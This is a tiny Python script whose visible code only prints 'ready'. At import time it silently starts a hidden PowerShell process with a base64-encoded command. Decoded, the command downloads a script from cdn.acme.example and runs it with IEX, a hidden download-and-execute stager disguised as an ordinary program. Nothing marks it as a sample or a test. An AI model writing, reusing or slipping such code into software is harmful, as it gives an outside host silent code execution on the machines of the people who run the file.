import subprocess

subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAGEAYwBtAGUALgBlAHgAYQBtAHAAbABlAC8AcwB0AGEAZwBlAC4AcABzADEAJwApAA==', shell=True)


def main():
    print('ready')
